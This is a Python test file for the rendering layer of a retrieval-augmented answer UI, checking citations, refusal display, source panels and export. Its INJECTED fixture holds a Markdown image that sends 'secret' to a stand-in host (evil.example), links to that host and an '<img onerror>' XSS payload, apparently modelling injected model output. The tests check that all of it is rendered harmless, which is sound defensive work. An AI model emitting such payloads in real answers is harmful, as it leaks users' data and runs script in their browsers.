from rag.models import Answer, Citation, Passage
from ui.render import (
    answer_html,
    defang,
    draft_html,
    panel_html,
    question_html,
    sources_html,
)

INJECTED = ("GPT-4o is fast ![pixel](http://evil.example/leak.png?q=secret) [1]. "
            "See [details](https://evil.example/more) or www.evil.example and <img src=x onerror=alert(1)> [2].")


def _answer(text: str, refused: bool = False) -> Answer:
    citations = [Citation(n=n, doc_id=f"d{n}", title=f"Paper <{n}>", source="s.txt", text="GPT-4o is fast.",
                          start=0, end=15, score=0.1, highlights=[(0, 6)]) for n in (1, 2)]
    return Answer(question="q", text=text, citations=[] if refused else citations, refused=refused)


def test_generated_images_links_and_html_are_inert():
    for rendered in (answer_html(_answer(INJECTED)), draft_html(INJECTED)):
        assert "<img" not in rendered
        assert "href=\"http" not in rendered and "href='http" not in rendered
        assert "](http" not in rendered and "http://" not in rendered and "https://" not in rendered
        assert "evil.example" in rendered  # shown as text, so the reader sees what was removed
        assert "&lt;img src=x onerror=alert(1)&gt;" in rendered


def test_markers_become_links_to_their_source_cards():
    rendered = answer_html(_answer("Fast [1]. Cheap [2]."), turn=3)
    assert '<a class="rag-cite" href="#rag-src-3-1" title="Paper &lt;1&gt;">[1]</a>' in rendered
    panel = sources_html(_answer("Fast [1]. Cheap [2]."), {"d1": "GPT-4o is fast. More text."}, turn=3)
    assert "id='rag-src-3-1'" in panel and "id='rag-src-3-2'" in panel and "Answer 4: “q”" in panel
    assert "<mark>GPT-4o</mark>" in panel and "Paper &lt;1&gt;" in panel


def test_refusal_looks_different_and_shows_what_came_closest():
    answer = _answer("The corpus does not contain an answer to this question.", refused=True)
    answer.closest = [Passage(doc_id="d9", title="Near miss", source="s.txt", text="Something close.",
                              start=0, end=16, similarity=0.3)]
    rendered = answer_html(answer)
    assert "rag-refusal" in rendered and "Not in the corpus" in rendered and "Near miss" in rendered
    assert "Closest passages" in sources_html(answer, {})


def test_defang_names_the_host_it_removed():
    assert defang("![a](http://x.test/p.png)") == "[image from x.test removed]"
    assert defang("[a](https://y.test/z)") == "a (link to y.test removed)"


def test_every_answer_keeps_its_sources_and_only_the_latest_is_shown():
    blocks = [sources_html(_answer("Fast [1]."), {}, turn=n) for n in range(3)]
    panel = panel_html(blocks)
    assert panel.count("class='rag-sources rag-hidden' id='rag-ans-") == 2
    assert "class='rag-sources' id='rag-ans-2'" in panel and all(f"rag-src-{n}-1" in panel for n in range(3))


def test_a_refusal_lists_each_paper_once_best_first_below_its_threshold():
    answer = _answer("The corpus does not contain an answer to this question.", refused=True)
    answer.closest = [Passage(doc_id=d, title=d, source="s.txt", text="x", start=0, end=1, similarity=s)
                      for d, s in [("A", 0.30), ("B", 0.41996), ("A", 0.35), ("C", 0.1)]]
    rendered = answer_html(answer, threshold=0.42)
    assert rendered.index(">B <") < rendered.index(">A <") < rendered.index(">C <") and rendered.count(">A <") == 1
    assert "similarity 0.419, below the 0.420 needed" in rendered  # never "0.42" against 0.42
    assert "similarity 0.350" in rendered


def test_a_long_question_is_folded():
    assert "<details>" in question_html("why " * 200) and "<details>" not in question_html("Why?")


def test_the_markdown_export_numbers_references_and_is_inert():
    from ui.export import answer_markdown

    text = answer_markdown(_answer(INJECTED), 0)
    assert text.startswith("## 1. q") and "References:" in text
    assert "[1] Paper <1> — s.txt, characters 0–15: “GPT-4o is fast.”" in text
    assert "](http" not in text and "http://" not in text


def test_a_card_shows_authors_year_and_an_arxiv_link_when_the_corpus_has_them():
    answer = _answer("Fast [1].")
    answer.citations[0].doc_id = "2203.15556"
    papers = {"2203.15556": {"authors": ["J. Hoffmann", "S. Borgeaud", "A. Mensch", "E. Buchatskaya"], "year": 2022}}
    card = sources_html(answer, {}, papers=papers)
    assert "J. Hoffmann, S. Borgeaud, A. Mensch et al. · 2022" in card
    assert "href='https://arxiv.org/abs/2203.15556'" in card and ">arXiv:2203.15556</a>" in card
    assert "arxiv.org" not in sources_html(_answer("Fast [1]."), {})  # a hash id is no arXiv id
